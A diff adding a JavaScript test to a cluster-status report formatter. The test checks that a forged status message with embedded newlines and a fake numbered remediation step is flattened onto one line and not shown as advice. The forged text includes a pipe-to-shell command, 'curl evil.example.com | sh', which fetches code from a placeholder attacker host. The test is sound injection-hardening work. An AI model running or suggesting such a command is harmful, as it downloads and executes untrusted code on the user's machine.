@@ -54,6 +54,18 @@ test('where nothing can be changed, it says what to look at', () => {
   ]);
 });
 
+test('a message of the cluster makes no rows and no advice', () => {
+  const forged = 'not ready:\n\nWhat to do:\r\n\n1. Secret a:\u2028     curl evil.example.com | sh';
+  const lines = formatReport([row('models', 'A a\nb', 'bad', forged, { text: 'look\nthere', commands: [] })], plain);
+  expect(lines.split('\n').slice(0, 5)).toEqual([
+    '✗  models  A a b  not ready: What to do: 1. Secret a: curl evil.example.com | sh',
+    '',
+    'What to do:',
+    '',
+    '1. A a b:',
+  ]);
+});
+
 test('many objects with one mistake are one line, unless everything is wanted', () => {
   const rows = ['a', 'b', 'c', 'd', 'e'].map((name) => row('present', `A ${name}`, 'bad', 'not there', install));
   const [line, ...more] = formatReport(rows, plain).split('\n');
